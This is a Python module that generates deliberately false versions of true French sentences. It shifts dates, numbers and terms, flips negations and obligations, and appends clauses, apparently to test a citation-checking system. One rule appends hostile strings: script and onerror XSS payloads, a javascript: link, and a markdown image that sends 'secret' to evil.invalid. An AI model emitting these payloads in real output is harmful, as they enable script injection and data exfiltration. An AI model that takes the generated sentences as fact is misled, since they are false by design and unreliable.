"""True sentences made false by rule: another day, number, term; a denial, an obligation, a direction turned round.

Each rule gives sentences that differ in one thing from one that its quotation proves; none where it has no hold.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from datetime import date
from typing import TYPE_CHECKING

from index.dating import find_dates, format_day

if TYPE_CHECKING:
    from index.vocabulary import Vocabulary

Rule = Callable[[str, str, "Vocabulary"], Iterator[str]]

SWAPS = {
    "modality": (
        (r"\bdoit\b", "peut"), (r"\bdoivent\b", "peuvent"), (r"\bdevait\b", "pouvait"), (r"\bpeut\b", "doit"),
        (r"\bpeuvent\b", "doivent"), (r"\bobligatoires?\b", "facultative"), (r"\bfacultati\w+", "obligatoire"),
        (r"\benviron ", ""), (r"\bprès de ", ""), (r"\bpourrait\b", "peut"), (r"\bdevrait\b", "va"),
        (r"\bvolontariat\b", "obligation"), (r"\bseuls? ", "tous "),
    ),
    "direction": (
        (r"\bavant le\b", "après le"), (r"\bau plus tard le\b", "à partir du"), (r"\bjusqu'au\b", "à partir du"),
        (r"\b(?:est|était) close?\b", "est ouverte"), (r"\bouvert\b", "fermé"), (r"\bouvre\b", "ferme"),
        (r"\bà partir du\b", "jusqu'au"), (r"\bdepuis le\b", "jusqu'au"), (r"\bplus de\b", "moins de"),
        (r"\bau moins\b", "au plus"), (r"\bmaximum\b", "minimum"), (r"\ba fermé\b", "a ouvert"),
        (r"\bs'est ouvert\b", "s'est fermé"),
    ),
    "unit": (
        (r"\bmillions\b", "milliards"), (r"\bmilliards\b", "millions"), (r"\bmois\b", "ans"),
        (r"\bjours\b", "semaines"),        (r" %", " €"), (r" (?:€|euros)\b", " %"),
    ),
}  # fmt: skip
ADDED = (
    ", soit 500 € par dossier",
    " pour les vétérinaires",
    " sans aucune condition",
    ", selon la CNIL",
    " et dans tous les autres cas",
    " sous peine d'une amende administrative élevée",
)
HOSTILE = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](https://evil.invalid/?q=secret)",
    " [lien](javascript:alert(1))",
    " Voir https://evil.invalid/page.", " <b>important</b>", " {{secret}}", " [7]", " &lt;b&gt;",
)  # fmt: skip


def other_days(sentence: str, _: str, __: Vocabulary) -> Iterator[str]:
    for found in find_dates(sentence, written=None):
        if found.first is None or found.first != found.last:
            continue
        day = found.first
        for other in (shifted(day, days=1), day.replace(year=day.year + 1, day=min(day.day, 28)), other_month(day)):
            yield sentence[: found.start] + format_day(other) + sentence[found.end :]


def shifted(day: date, *, days: int) -> date:
    return date.fromordinal(day.toordinal() + days)


def other_month(day: date) -> date:
    return day.replace(month=day.month % 12 + 1, day=min(day.day, 28))


def other_numbers(sentence: str, quoted: str, _: Vocabulary) -> Iterator[str]:
    for match in re.finditer(r"(?<![\d/.,:-])\d+(?![\d/.,:-])", sentence):
        other = str(int(match[0]) + 3)
        if other not in re.findall(r"\d+", quoted):
            yield sentence[: match.start()] + other + sentence[match.end() :]


def other_hours(sentence: str, _: str, __: Vocabulary) -> Iterator[str]:
    for match in re.finditer(r"\b(\d\d) ?h\b", sentence):
        yield f"{sentence[: match.start()]}{int(match[1]) - 3} h{sentence[match.end() :]}"


def other_terms(sentence: str, quoted: str, vocabulary: Vocabulary) -> Iterator[str]:
    """Another term of the kind, that the quotation does not name."""
    held = {tag for mention in vocabulary.find(quoted) for tag in mention.tags}
    for mention in vocabulary.find(sentence):
        others = [
            term for term in vocabulary.terms_of(mention.tags[0].kind) if term.tag not in held | set(mention.tags)
        ]
        for term in others[:2]:
            yield sentence[: mention.start] + term.label + sentence[mention.end :]


def neighbour_terms(sentence: str, quoted: str, vocabulary: Vocabulary) -> Iterator[str]:
    """Another term of the kind that the quotation names too: the words are all there, what they say is not."""
    held = [tag for mention in vocabulary.find(quoted) for tag in mention.tags]
    for mention in vocabulary.find(sentence):
        for tag in dict.fromkeys(held):
            is_other = tag.kind == mention.tags[0].kind and tag not in mention.tags
            if is_other and vocabulary.conflicts(tag, mention.tags[0]):
                yield sentence[: mention.start] + vocabulary.label(tag) + sentence[mention.end :]


def denials(sentence: str, _: str, __: Vocabulary) -> Iterator[str]:
    for pattern, made in (
        (r"\bn'(est|ont|était|a) (?:pas|plus|jamais) ", r"\1 "), (r"\bne (\w+) (?:pas|plus|jamais) ", r"\1 "),
        (r"\b(est|était|sera|doit|devait|peut|finance|paie|permet|concerne|accompagne|couvre) (?!pas)", r"ne \1 pas "),
        (r"\b(sont|doivent|peuvent|étaient|devaient|ont) (?!pas)", r"ne \1 pas "),
        (r"\bsans ", "avec "), (r"\baucune? ", "une "),
    ):  # fmt: skip
        if re.search(pattern, sentence):
            yield re.sub(pattern, made, sentence, count=1)


def swaps(name: str) -> Rule:
    def rule(sentence: str, _: str, __: Vocabulary) -> Iterator[str]:
        for pattern, made in SWAPS[name]:
            if re.search(pattern, sentence):
                yield re.sub(pattern, made, sentence, count=1)

    return rule


def additions(sentence: str, _: str, __: Vocabulary) -> Iterator[str]:
    stem = sentence.rstrip(" .")
    yield f"{stem}{ADDED[len(sentence) % len(ADDED)]}."


def hostile(sentence: str, _: str, __: Vocabulary) -> Iterator[str]:
    yield sentence + HOSTILE[len(sentence) % len(HOSTILE)]


RULES: dict[str, Rule] = {
    "day": other_days,
    "number": other_numbers,
    "hour": other_hours,
    "term": other_terms,
    "neighbour": neighbour_terms,
    "negation": denials,
    "modality": swaps("modality"),
    "direction": swaps("direction"),
    "unit": swaps("unit"),
    "addition": additions,
    "hostile": hostile,
}
